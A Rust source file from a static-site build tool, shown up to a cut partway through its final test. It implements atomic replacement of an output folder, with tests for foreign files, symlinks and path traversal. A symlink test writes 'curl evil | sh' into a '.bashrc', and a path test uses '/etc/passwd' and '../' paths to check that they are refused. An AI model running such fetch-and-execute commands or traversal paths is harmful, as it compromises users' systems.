//! The output of one build.

use std::collections::{BTreeSet, HashSet};
use std::fs;
use std::mem;
use std::path::{Component, Path, PathBuf};
use std::sync::atomic::Ordering;
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::SystemTime;

use crate::error::{Error, ForeignFiles};
use crate::files::{ContentHash, OutputFile, OutputFiles};
use crate::foreign::ForeignPaths;
use crate::former::{FormerFiles, Retention};
use crate::manifest;
use crate::previous::{OutdatedFile, PreviousOutput};
use crate::signature::FileSignature;
use crate::stage::{Changes, Published, Stage};

/// Receives the files of a build, from any thread and in any order, and replaces the output folder with them.
///
/// Paths are relative to the output folder, with forward slashes. The new files are prepared in a hidden folder. Until
/// [`finish`](Self::finish), readers see the old ones; an `Output` that is dropped leaves them as they are.
#[derive(Debug)]
pub struct Output {
    previous: PreviousOutput,
    stage: Stage,
    foreign: ForeignPaths,
    retention: Retention,
    new: Mutex<NewFiles>,
}

/// The files that the build has written so far.
#[derive(Debug, Default)]
struct NewFiles {
    files: OutputFiles,
    /// Paths of files that differ from those of the previous build.
    written: HashSet<String>,
    /// Folders that exist.
    folders: HashSet<PathBuf>,
    /// Foreign files and folders at the paths of new files.
    obstacles: BTreeSet<PathBuf>,
}

/// A file of a former build that the output keeps.
#[derive(Debug)]
struct FormerFile {
    path: String,
    file: OutputFile,
    /// Second since 1970 at which a build replaced it.
    replaced: u64,
}

/// The result of a build.
#[derive(Debug)]
#[non_exhaustive]
pub struct Finished {
    /// All files of the output, including former ones, for [`PreviousOutput::compare`] of the next build.
    pub files: OutputFiles,
    /// Number of files that differ from those in the output folder. The manifest is one of them if the set of paths
    /// differs, and so is the list of former files.
    pub changed: usize,
    /// Size of the files in bytes, without former files.
    pub bytes: u64,
    /// Work that remains once readers see the new files.
    pub published: Published,
}

impl Output {
    /// Prepares new files for an output folder.
    ///
    /// # Errors
    ///
    /// Returns an error if no folder can be created beside or within the output folder.
    pub fn new(mut previous: PreviousOutput) -> Result<Self, Error> {
        let stage = Stage::new(&mut previous)?;
        let foreign = ForeignPaths::new(&previous.foreign);
        let (retention, new) = (Retention::NONE, Mutex::default());
        Ok(Self { previous, stage, foreign, retention, new })
    }

    /// Sets the time for which replaced files are kept. By default no files are.
    #[must_use]
    pub fn with_retention(self, retention: Retention) -> Self {
        Self { retention, ..self }
    }

    /// Writes a file.
    ///
    /// The manifest's own path is reserved: [`finish`](Self::finish) replaces a file that is written there.
    ///
    /// # Errors
    ///
    /// Returns an error if the path is not below the output folder, or the file cannot be written. If the path belongs
    /// to a file that no build has written, [`finish`](Self::finish) reports it together with all others.
    pub fn write(&self, path: &str, bytes: &[u8]) -> Result<(), Error> {
        self.write_copy(path, bytes, None)
    }

    /// Writes a copy of a file. If neither the original nor the copy has changed since the previous build, neither is
    /// read.
    ///
    /// # Errors
    ///
    /// Returns an error if `from` cannot be read, and the errors of [`write`](Self::write).
    pub fn copy(&self, path: &str, from: &Path) -> Result<(), Error> {
        let now = SystemTime::now();
        let signature = FileSignature::read(from).filter(|signature| signature.is_settled(now));
        let unchanged = self.previous.unchanged.get(path);
        let previous = unchanged.and_then(|unchanged| unchanged.file.source);
        if signature.is_some() && signature == previous && self.keep(&[path]) {
            return Ok(());
        }
        let bytes = fs::read(from).map_err(Error::file("read", from))?;
        self.write_copy(path, &bytes, signature)
    }

    /// Keeps files of the previous build, all or none. Returns `false` if one of them is missing or was changed since:
    /// then the caller writes them all.
    pub fn keep(&self, paths: &[&str]) -> bool {
        let unchanged: Option<Vec<_>> =
            paths.iter().map(|path| self.previous.unchanged.get(*path)).collect();
        let Some(unchanged) = unchanged else { return false };
        for unchanged in unchanged {
            unchanged.is_kept.store(true, Ordering::Relaxed);
        }
        true
    }

    /// Keeps all files of the previous build that are as it wrote them. [`finish`](Self::finish) decides about former files and
    /// writes their list.
    pub fn keep_all(&self) {
        let PreviousOutput { unchanged, former, target, .. } = &self.previous;
        let is_former =
            |path: &str| former.0.contains_key(path) || path == target.options.former_files;
        for (_, unchanged) in unchanged.iter().filter(|(path, _)| !is_former(path)) {
            unchanged.is_kept.store(true, Ordering::Relaxed);
        }
    }

    /// Reads a file as the previous build wrote it; `None` if it is missing or was changed since.
    pub fn previous(&self, path: &str) -> Option<Vec<u8>> {
        self.previous.unchanged.get(path)?;
        self.previous.root.as_ref()?.folder.read_below(Path::new(path)).ok()
    }

    /// Reads a file of this build, written or kept; `None` if there is none.
    pub fn current(&self, path: &str) -> Option<Vec<u8>> {
        let (is_written, is_new) = {
            let new = self.lock();
            (new.written.contains(path), new.files.contains(path))
        };
        if is_written {
            return self.stage.read(path);
        }
        let is_kept = || {
            let unchanged = self.previous.unchanged.get(path);
            unchanged.is_some_and(|unchanged| unchanged.is_kept.load(Ordering::Relaxed))
        };
        if is_new || is_kept() { self.previous(path) } else { None }
    }

    /// Returns the paths of all files below a folder that are as the previous build wrote them, in no order. The empty
    /// path is the output folder.
    pub fn previous_paths(&self, folder: &str) -> Vec<String> {
        let prefix = if folder.is_empty() { String::new() } else { format!("{folder}/") };
        let paths = self.previous.unchanged.keys();
        paths.filter(|path| path.starts_with(&prefix)).cloned().collect()
    }

    /// Replaces the files of the output folder. Files of builds that were neither written nor kept are removed, except for
    /// those that [`with_retention`](Self::with_retention) keeps.
    ///
    /// # Errors
    ///
    /// [`Error::ForeignFiles`] if new files have the paths of files that no build has written, unless both have the same
    /// bytes; other errors if the operating system refuses an operation. The old files stay as they are, except if the
    /// entries of the folder had to be exchanged one by one: then the next build replaces them all.
    pub fn finish(mut self) -> Result<Finished, Error> {
        self.check_obstacles()?;
        self.write_manifest()?;
        let former = self.former_files();
        self.write_former_files(&former)?;
        let Self { mut previous, stage, foreign, new, .. } = self;
        let NewFiles { files: new, written, .. } =
            new.into_inner().unwrap_or_else(PoisonError::into_inner);
        let mut files = OutputFiles::default();
        files.0.reserve(previous.unchanged.len() + new.len());
        let mut removed: Vec<String> =
            mem::take(&mut previous.outdated).into_iter().map(|outdated| outdated.path).collect();
        for (path, unchanged) in mem::take(&mut previous.unchanged) {
            if unchanged.is_kept.into_inner() {
                files.0.insert(path, unchanged.file);
            } else {
                removed.push(path);
            }
        }
        files.0.extend(new.0);
        let bytes = files.bytes();
        files.0.extend(former.into_iter().map(|former| (former.path, former.file)));
        removed.retain(|path| !files.contains(path));
        stage.remove(&removed)?;
        let changed = if previous.is_spare { files.len() } else { written.len() + removed.len() };
        let removed: HashSet<String> = removed.into_iter().collect();
        let changes = Changes { written, removed };
        let published = stage.publish(previous, changes, &files, &|path| foreign.contains(path))?;
        Ok(Finished { files, changed, bytes, published })
    }

    /// Returns the files that neither this build nor, if they are listed as former files, the previous one has written, and
    /// that are kept. A file that was changed since a build wrote it is kept unmodified: its name still identifies it as a
    /// content-hashed file of a build.
    fn former_files(&self) -> Vec<FormerFile> {
        let is_content_hashed = self.previous.target.options.is_content_hashed;
        let now = self.retention.second();
        let new = self.lock();
        let is_former = |path: &String| is_content_hashed(path) && !new.files.contains(path);
        let replaced = |path: &String| {
            let known = self.previous.former.0.get(path).copied();
            // A time in the future is that of a clock which was set back.
            let replaced = known.unwrap_or(now).min(now);
            (!self.retention.is_over(replaced)).then_some(replaced)
        };
        let unchanged = self.previous.unchanged.iter().filter_map(|(path, unchanged)| {
            let is_kept = unchanged.is_kept.load(Ordering::Relaxed);
            let replaced = replaced(path).filter(|_| !is_kept && is_former(path))?;
            // A file of this build may have taken the place of its folder.
            let is_there = self.stage.signature(path) == Some(unchanged.file.signature);
            let file = unchanged.file.clone();
            is_there.then(|| FormerFile { path: path.clone(), file, replaced })
        });
        let outdated = self.previous.outdated.iter().filter_map(|OutdatedFile { path, .. }| {
            let replaced = replaced(path).filter(|_| is_former(path))?;
            let signature = self.stage.signature(path)?;
            let content = ContentHash::new(&self.stage.read(path)?);
            let file = OutputFile { content, signature, source: None };
            Some(FormerFile { path: path.clone(), file, replaced })
        });
        unchanged.chain(outdated).collect()
    }

    /// Writes the list of former files, if there are any.
    fn write_former_files(&self, former: &[FormerFile]) -> Result<(), Error> {
        if former.is_empty() {
            return Ok(());
        }
        let times = former.iter().map(|former| (former.path.clone(), former.replaced));
        let list = FormerFiles(times.collect());
        self.write_copy(self.previous.target.options.former_files, &list.to_bytes(), None)
    }

    /// Reports all foreign files at the paths of new ones.
    fn check_obstacles(&mut self) -> Result<(), Error> {
        let new = self.new.get_mut().unwrap_or_else(PoisonError::into_inner);
        let paths: Vec<PathBuf> = mem::take(&mut new.obstacles).into_iter().collect();
        if paths.is_empty() {
            Ok(())
        } else {
            let folder = self.previous.target.path.clone();
            Err(Error::ForeignFiles(ForeignFiles { folder, paths }))
        }
    }

    /// Writes the list of all files of the new output, including itself.
    fn write_manifest(&self) -> Result<(), Error> {
        let name = self.previous.target.options.manifest;
        if self.has_paths_of_manifest() && self.keep(&[name]) {
            return Ok(());
        }
        let bytes = {
            let new = self.lock();
            let unchanged = self.previous.unchanged.iter();
            let kept = unchanged
                .filter(|(_, file)| file.is_kept.load(Ordering::Relaxed))
                .map(|(path, _)| path.as_str());
            manifest::to_bytes(kept.chain(new.files.paths()).chain([name]))
        };
        self.write_copy(name, &bytes, None)
    }

    /// Returns whether the new output has exactly the paths of the previous manifest. Sorting and writing a long list takes longer.
    fn has_paths_of_manifest(&self) -> bool {
        let PreviousOutput { unchanged, former, target, .. } = &self.previous;
        let (manifest, former_files) = (target.options.manifest, target.options.former_files);
        let new = self.lock();
        let is_listed = |path: &str| path != former_files && !former.0.contains_key(path);
        self.previous.has_all_files()
            && new.files.paths().all(|path| unchanged.contains_key(path))
            && unchanged.iter().all(|(path, file)| {
                let is_kept = file.is_kept.load(Ordering::Relaxed) || path == manifest;
                is_listed(path) == (is_kept || new.files.contains(path))
            })
    }

    fn lock(&self) -> MutexGuard<'_, NewFiles> {
        self.new.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn write_copy(
        &self,
        path: &str,
        bytes: &[u8],
        source: Option<FileSignature>,
    ) -> Result<(), Error> {
        check_path(path)?;
        let content = ContentHash::new(bytes);
        let unchanged = self.previous.unchanged.get(path).map(|unchanged| &unchanged.file);
        if let Some(file) = unchanged.filter(|file| file.content == content) {
            let file = OutputFile { source, ..file.clone() };
            self.lock().files.0.insert(path.to_owned(), file);
            return Ok(());
        }
        if let Some(obstacle) = self.foreign.obstacle(Path::new(path))
            && !self.is_same(obstacle, path, bytes)
        {
            self.lock().obstacles.insert(obstacle.to_owned());
            return Ok(());
        }
        if let Some(folder) = Path::new(path).parent()
            && !self.lock().folders.contains(folder)
        {
            self.stage.make_folder(folder)?;
            self.lock().folders.insert(folder.to_owned());
        }
        let metadata = self.stage.write(path, bytes)?;
        let signature = FileSignature::from_metadata(&metadata);
        let mut new = self.lock();
        new.files.0.insert(path.to_owned(), OutputFile { content, signature, source });
        new.written.insert(path.to_owned());
        Ok(())
    }

    /// Returns whether a foreign file equals the new one at its path, such as a `CNAME` that was added to the output
    /// before it was added to the sources. Such a file is replaced and counts as the build's from then on.
    fn is_same(&self, foreign: &Path, path: &str, bytes: &[u8]) -> bool {
        let root = self.previous.root.as_ref();
        let read = || root.and_then(|root| root.folder.read_below(foreign).ok());
        foreign == Path::new(path)
            && self.foreign.contains(foreign)
            && read().is_some_and(|theirs| theirs == bytes)
    }
}

/// Checks that a path does not lead out of the output folder.
pub(crate) fn check_path(path: &str) -> Result<(), Error> {
    let mut components = Path::new(path).components().peekable();
    let is_below = components.peek().is_some()
        && components.all(|component| matches!(component, Component::Normal(_)));
    if is_below { Ok(()) } else { Err(Error::InvalidPath(path.to_owned())) }
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::{DirSnapshot, Marker, OutputOptions, Target};

    const MARKER: Marker =
        Marker { file: ".marker", is_valid: |bytes| bytes == b"ours", bytes: || b"ours".to_vec() };

    const OPTIONS: OutputOptions = OutputOptions {
        marker: Some(MARKER),
        is_content_hashed: |path| path.starts_with("assets/"),
        ..OutputOptions::new()
    };

    fn previous(target: &Path, known: &OutputFiles) -> Result<PreviousOutput, Error> {
        let target = Target::find(target)?.with_options(OPTIONS);
        if known.is_empty() {
            PreviousOutput::new(target)
        } else {
            Ok(PreviousOutput::compare(DirSnapshot::new(target)?, known.clone()))
        }
    }

    fn over(target: &Path, known: &OutputFiles) -> Result<Output, Error> {
        Output::new(previous(target, known)?)
    }

    fn is_as_written(target: &Path, known: &OutputFiles) -> bool {
        previous(target, known).expect("the folder is ours").is_as_written()
    }

    fn write(output: &Output, files: &[(&str, &str)]) {
        output.write(MARKER.file, &(MARKER.bytes)()).expect("the folder is ours");
        for (path, text) in files {
            output.write(path, text.as_bytes()).expect("the folder is ours");
        }
    }

    fn count(folder: &Path) -> usize {
        fs::read_dir(folder).expect("the folder is there").count()
    }

    #[test]
    fn a_build_that_is_dropped_leaves_the_target_as_it_was() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        let known = first.finish().expect("the folder is ours").files;

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("index.html", "two")]);
        drop(second);

        assert_eq!(fs::read(target.join("index.html")).expect("the first build stays"), b"one");
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn a_build_replaces_the_one_before_it_whole() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        for name in ["old.html", "new.html"] {
            let output = over(&target, &OutputFiles::default()).expect("free, or a build");
            write(&output, &[(name, "text")]);
            let finished = output.finish().expect("the folder is ours");
            finished.published.prepare_next_build().expect("the folder is ours");
        }
        assert!(!target.join("old.html").exists());
        assert!(target.join("new.html").exists());
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn only_changed_files_are_written() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a/same.html", "same"), ("a/new.html", "old"), ("b/gone.html", "")]);
        let known = first.finish().expect("the folder is ours").files;
        assert!(is_as_written(&target, &known));
        let same = FileSignature::read(&target.join("a/same.html"));
        fs::write(target.join("stray.txt"), "somebody's").expect("the folder is ours");

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("a/same.html", "same"), ("a/new.html", "new")]);
        assert_eq!(second.current("a/same.html").as_deref(), Some(&b"same"[..]));
        assert_eq!(second.current("a/new.html").as_deref(), Some(&b"new"[..]));
        assert_eq!(second.current("b/gone.html"), None);
        let finished = second.finish().expect("the folder is ours");
        finished.published.prepare_next_build().expect("the folder is ours");

        assert_eq!(finished.changed, 3, "one file is new, one is gone, and the manifest says so");
        assert_eq!(FileSignature::read(&target.join("a/same.html")), same);
        assert_eq!(fs::read(target.join("a/new.html")).expect("it is there"), b"new");
        assert!(!target.join("b").exists());
        assert_eq!(fs::read(target.join("stray.txt")).expect("it stays"), b"somebody's");
        assert!(is_as_written(&target, &finished.files));
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn a_file_that_was_touched_is_written_again() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a.html", "ours"), ("b.html", "ours")]);
        let known = first.finish().expect("the folder is ours").files;
        fs::write(target.join("a.html"), "theirs").expect("the folder is ours");

        let second = over(&target, &known).expect("the folder is a build");
        assert!(!second.keep(&["a.html"]) && second.keep(&["b.html"]));
        write(&second, &[("a.html", "ours")]);
        second.finish().expect("the folder is ours");
        assert_eq!(fs::read(target.join("a.html")).expect("it is there"), b"ours");
    }

    #[test]
    fn a_folder_with_other_things_is_refused() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        fs::write(folder.path().join("thesis.txt"), "years of work").expect("the folder is ours");
        let refused = over(folder.path(), &OutputFiles::default());
        assert!(matches!(refused, Err(Error::ForeignFolder(_))));
    }

    #[test]
    fn several_files_are_kept_all_or_none() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a.html", "a"), ("a.json", "a")]);
        let known = first.finish().expect("the folder is ours").files;
        fs::remove_file(target.join("a.json")).expect("it is there");

        let second = over(&target, &known).expect("the folder is a build");
        assert!(!second.keep(&["a.html", "a.json"]));
        write(&second, &[]);
        let files = second.finish().expect("the folder is ours").files;
        assert!(!files.contains("a.html"), "a file was kept whose other half is gone");
        assert!(!target.join("a.html").exists());
    }

    #[test]
    fn a_file_takes_the_place_of_a_folder_and_a_folder_that_of_a_file() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a", "file"), ("b/c.html", "in a folder")]);
        let known = first.finish().expect("the folder is ours").files;

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("a/d.html", "in a folder"), ("b", "file")]);
        second.finish().expect("the folder is ours");
        assert_eq!(fs::read(target.join("a/d.html")).expect("it is there"), b"in a folder");
        assert_eq!(fs::read(target.join("b")).expect("it is there"), b"file");
    }

    /// Adds files that no build has written to the target, and returns their paths.
    fn add_foreign(target: &Path) -> [&'static str; 4] {
        let paths = ["CNAME", ".git/objects/ab", "guide/notes.txt", "a/deep/er.txt"];
        for path in paths {
            let file = target.join(path);
            fs::create_dir_all(file.parent().expect("a file has a folder")).expect("ours");
            fs::write(file, path).expect("the folder is ours");
        }
        fs::create_dir(target.join("empty")).expect("the folder is ours");
        paths
    }

    fn assert_foreign(target: &Path, paths: &[&str]) {
        for path in paths {
            let text = fs::read_to_string(target.join(path));
            assert_eq!(text.expect("it stays"), *path);
        }
        assert!(target.join("empty").is_dir());
    }

    #[test]
    fn files_of_other_programs_stay_with_and_without_a_known_previous_build() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("guide/a.html", "one"), ("guide/gone.html", "one")]);
        let known = first.finish().expect("the folder is ours").files;
        let foreign = add_foreign(&target);
        assert!(is_as_written(&target, &known), "foreign files change nothing");

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("guide/a.html", "two")]);
        second.finish().expect("the folder is ours");
        assert_foreign(&target, &foreign);
        assert!(!target.join("guide/gone.html").exists());

        let third = over(&target, &OutputFiles::default()).expect("the folder is a build");
        write(&third, &[("index.html", "three")]);
        third.finish().expect("the folder is ours");
        assert_foreign(&target, &foreign);
        assert!(!target.join("guide/a.html").exists(), "the manifest says that a build wrote it");
    }

    #[test]
    fn all_foreign_files_in_the_way_are_named_and_nothing_changes() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        first.finish().expect("the folder is ours");
        let added = add_foreign(&target);

        let second = over(&target, &OutputFiles::default()).expect("the folder is a build");
        write(&second, &[("CNAME/x.html", ""), ("guide/notes.txt", "ours"), ("a/deep", "file")]);
        write(&second, &[("a/deep/er.txt", "a/deep/er.txt")]);
        let refused = second.finish().expect_err("files are in the way");
        let Error::ForeignFiles(foreign) = refused else { panic!("{refused}") };
        assert_eq!(foreign.paths, ["CNAME", "a/deep", "guide/notes.txt"].map(PathBuf::from));
        assert_foreign(&target, &added);
        assert_eq!(fs::read(target.join("index.html")).expect("it stays"), b"one");
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn a_foreign_file_with_the_same_bytes_becomes_the_build_s() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        first.finish().expect("the folder is ours");
        fs::write(target.join("CNAME"), "docs.example.com").expect("the folder is ours");
        for files in [vec![("CNAME", "docs.example.com")], vec![]] {
            let output = over(&target, &OutputFiles::default()).expect("the folder is a build");
            write(&output, &files);
            output.finish().expect("nothing is in the way");
            assert_eq!(target.join("CNAME").exists(), !files.is_empty());
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_planted_link_is_neither_followed_nor_lost() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let (target, elsewhere) = (folder.path().join("build"), folder.path().join("elsewhere"));
        fs::create_dir(&elsewhere).expect("the folder is ours");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        first.finish().expect("the folder is ours");
        std::os::unix::fs::symlink("../elsewhere", target.join("a")).expect("the folder is ours");

        let second = over(&target, &OutputFiles::default()).expect("the folder is a build");
        write(&second, &[("index.html", "two")]);
        second.finish().expect("nothing is in the way");
        assert_eq!(fs::read_link(target.join("a")).expect("it stays"), Path::new("../elsewhere"));

        let third = over(&target, &OutputFiles::default()).expect("the folder is a build");
        write(&third, &[("a/.bashrc", "curl evil | sh")]);
        assert!(matches!(third.finish(), Err(Error::ForeignFiles(_))));
        assert_eq!(count(&elsewhere), 0);
    }

    #[test]
    fn an_old_folder_becomes_the_new_one_without_being_written_to() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let (target, spare) = (folder.path().join("build"), folder.path().join("spare"));
        let mut known = OutputFiles::default();
        for round in 0..5_u32 {
            let found = Target::find(&target).expect("free, or a build").with_options(OPTIONS);
            let snapshot = DirSnapshot::new(found.with_spare(spare.clone())).expect("it is ours");
            let previous = PreviousOutput::compare(snapshot, known);
            let output = Output::new(previous).expect("it is ours");
            let text = format!("round {round}");
            let own = format!("{round}/own.html");
            write(&output, &[("same.html", "same"), ("new.html", &text), (&own, "")]);
            let finished = output.finish().expect("the folder is ours");
            known = finished.files;
            finished.published.prepare_next_build().expect("the folder is ours");
            assert!(is_as_written(&target, &known));
            assert_eq!(fs::read_to_string(target.join("new.html")).expect("there"), text);
            // The spare copy is complete until the next build uses it.
            let copied = fs::read_to_string(spare.join("new.html")).expect("the copy is there");
            assert_eq!(copied, text);
            assert!(spare.join(&own).exists());
            assert_eq!(count(&target), 5, "two files, one folder, marker and manifest");
        }
        assert_eq!(count(folder.path()), 2);
    }

    #[test]
    fn a_file_that_somebody_adds_during_a_build_is_in_the_new_output() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &OutputFiles::default()).expect("the folder is free");
        write(&first, &[("a/index.html", "one")]);
        let known = first.finish().expect("the folder is ours").files;
        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("a/index.html", "two")]);
        for path in ["upload.txt", "a/upload.txt"] {
            fs::write(target.join(path), path).expect("the folder is ours");
        }
        fs::create_dir(target.join("uploads")).expect("the folder is ours");
        second.finish().expect("the folder is ours");
        for path in ["upload.txt", "a/upload.txt"] {
            assert_eq!(fs::read_to_string(target.join(path)).expect("it stays"), path);
        }
        assert!(target.join("uploads").is_dir());
        assert_eq!(fs::read(target.join("a/index.html")).expect("it is there"), b"two");
    }

    #[test]
    fn paths_out_of_the_folder_are_refused() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let output = over(&folder.path().join("build"), &OutputFiles::default()).expect("free");
        for path in ["", ".", "/etc/passwd", "../a", "a/../../b"] {
            let refused = output.write(path, b"");
            assert!(matches!(refused, Err(Error::InvalidPath(_))), "{path}");
        }
        output.write("a/..b/.c", b"").expect("the path is below the folder");
    }

    #[test]
    fn without_a_marker_the_manifest_marks_a_folder() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let over = || Output::new(PreviousOutput::new(Target::find(&target).expect("free"))?);
        for text in ["one", "two"] {
            let output = over().expect("free, or a build");
            output.write("index.html", text.as_bytes()).expect("the folder is ours");
            output.finish().expect("the folder is ours");
            assert_eq!(fs::read_to_string(target.join("index.html")).expect("there"), text);
        }
        fs::write(target.join(OutputOptions::new().manifest), "{}").expect("the folder is ours");
        assert!(matches!(over(), Err(Error::ForeignFolder(_))));
    }

    #[test]
    fn a_copy_is_kept_while_neither_file_changes() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let (target, source) = (folder.path().join("build"), folder.path().join("source"));
        fs::write(&source, "one").expect("the folder is ours");
        let old = SystemTime::now() - std::time::Duration::from_secs(60);
        let set_old = |file: fs::File| file.set_modified(old).expect("the file is ours");
        set_old(fs::File::options().write(true).open(&source).expect("it is there"));
        let mut known = OutputFiles::default();
        for (text, changed) in [("one", 3), ("one", 0), ("other", 1)] {
            if text == "other" {
                fs::write(&source, text).expect("the folder is ours");
            }
            let output = over(&target, &known).expect("free, or a build");
            output.copy("copy", &source).expect("the source is there");
            write(&output, &[]);
            let finished = output.finish().expect("the folder is ours");
            assert_eq!(finished.changed, changed, "{text}");
            assert_eq!(fs::read_to_string(target.join("copy")).expect("there"), text);
            known = finished.files;
        }
    }

    /// Retention of a day, some hours after the first build.
    fn after_hours(hours: u64) -> Retention {
        let hour = Duration::from_secs(60 * 60);
        let now =
            SystemTime::UNIX_EPOCH + 10_000 * hour + u32::try_from(hours).expect("few") * hour;
        Retention { now, period: 24 * hour }
    }

    /// Replaces the files of a target whose previous files are known or not.
    fn build(target: &Path, known: &OutputFiles, hours: u64, files: &[(&str, &str)]) -> Finished {
        let output = over(target, known).expect("free, or a build");
        let output = output.with_retention(after_hours(hours));
        write(&output, files);
        output.finish().expect("the folder is ours")
    }

    fn former(target: &Path) -> String {
        fs::read_to_string(target.join(OPTIONS.former_files)).unwrap_or_default()
    }

    const A: &[(&str, &str)] = &[("index.html", "a"), ("old.html", "a"), ("assets/a.js", "a")];
    const B: &[(&str, &str)] = &[("index.html", "b"), ("assets/b.js", "b")];
    const C: &[(&str, &str)] = &[("index.html", "c"), ("assets/deep/c.js", "c")];

    #[test]
    fn content_hashed_files_stay_for_a_time_after_they_were_replaced() {
        for is_known in [true, false] {
            let folder = tempfile::tempdir().expect("a folder for the test");
            let target = folder.path().join("build");
            let known = |finished: &Finished| {
                if is_known { finished.files.clone() } else { OutputFiles::default() }
            };
            let is_there = |path: &str| target.join(path).exists();
            let a = build(&target, &OutputFiles::default(), 0, A);
            assert!(!is_there(OPTIONS.former_files), "the first build replaces nothing");
            // The first build is a year old when it is replaced.
            let b = build(&target, &known(&a), 9000, B);
            assert!(is_there("assets/a.js") && is_there("assets/b.js") && !is_there("old.html"));
            let own = former(&target).len() + 4 + 2;
            assert_eq!(b.bytes, manifest(&target) + u64::try_from(own).expect("short"));
            let c = build(&target, &known(&b), 9023, C);
            assert!(is_there("assets/a.js") && is_there("assets/b.js"));
            assert!(is_as_written(&target, &c.files));
            let list = "{\n  \"assets/a.js\": 68400000,\n  \"assets/b.js\": 68482800\n}\n";
            assert_eq!(former(&target), list);
            let now = previous(&target, &c.files).expect("the folder is ours");
            assert!(!now.has_expired_files(after_hours(9023)));
            assert!(now.has_expired_files(after_hours(9024)));
            assert_eq!(now.bytes(), c.bytes, "without former files");
            drop(now);
            let same = build(&target, &known(&c), 9024, C);
            assert!(!is_there("assets/a.js") && is_there("assets/b.js"));
            let last = build(&target, &known(&same), 9047, C);
            assert!(is_as_written(&target, &last.files));
            let left: BTreeSet<&str> = last.files.paths().collect();
            assert_eq!(
                left,
                [MARKER.file, OPTIONS.manifest, "assets/deep/c.js", "index.html"].into()
            );
            assert!(!is_there("assets/b.js") && !is_there(OPTIONS.former_files));
        }
    }

    fn manifest(target: &Path) -> u64 {
        fs::metadata(target.join(OPTIONS.manifest)).expect("it is there").len()
    }

    #[test]
    fn the_files_of_a_build_are_those_of_a_first_build_beside_former_ones() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let [target, clean] = ["build", "clean"].map(|name| folder.path().join(name));
        let mut known = OutputFiles::default();
        for (hours, files) in [A, B, C].into_iter().enumerate() {
            known = build(&target, &known, u64::try_from(hours).expect("few"), files).files;
        }
        let clean_files = build(&clean, &OutputFiles::default(), 7, C).files;
        for path in clean_files.paths() {
            let [one, other] = [&target, &clean].map(|root| fs::read(root.join(path)).ok());
            assert_eq!(one, other, "{path}");
        }
    }

    #[test]
    fn a_former_file_that_a_build_has_again_is_no_former_file() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let a = build(&target, &OutputFiles::default(), 0, A);
        let b = build(&target, &a.files, 1, B);
        let output = over(&target, &b.files).expect("it is a build").with_retention(after_hours(2));
        assert!(output.keep(&["assets/a.js"]), "its bytes are known");
        write(&output, &A[..2]);
        let again = output.finish().expect("the folder is ours");
        assert_eq!(former(&target), "{\n  \"assets/b.js\": 36007200\n}\n");
        build(&target, &again.files, 25, B);
        assert_eq!(former(&target), "{\n  \"assets/a.js\": 36090000\n}\n", "a new period begins");
    }

    #[test]
    fn without_a_period_nothing_is_kept() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        build(&target, &OutputFiles::default(), 0, A);
        build(&target, &OutputFiles::default(), 1, B);
        assert!(target.join("assets/a.js").exists());
        let output = over(&target, &OutputFiles::default()).expect("it is a build");
        write(&output, C);
        let finished = output.finish().expect("the folder is ours");
        assert!(!target.join("assets/a.js").exists() && !target.join("assets/b.js").exists());
        assert!(is_as_written(&target, &finished.files));
    }

    #[test]
    fn a_list_on_disk_never_keeps_or_removes_other_files() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        build(&target, &OutputFiles::default(), 0, A);
        fs::write(target.join("CNAME"), "theirs").expect("the folder is ours");
        let list = r#"{"old.html": 99999999999, "CNAME": 0, "../x": 0}"#;
        fs::write(target.join(OPTIONS.former_files), list).expect("the folder is ours");
        build(&target, &OutputFiles::default(), 1, B);
        assert!(!target.join("old.html").exists(), "a page is never kept");
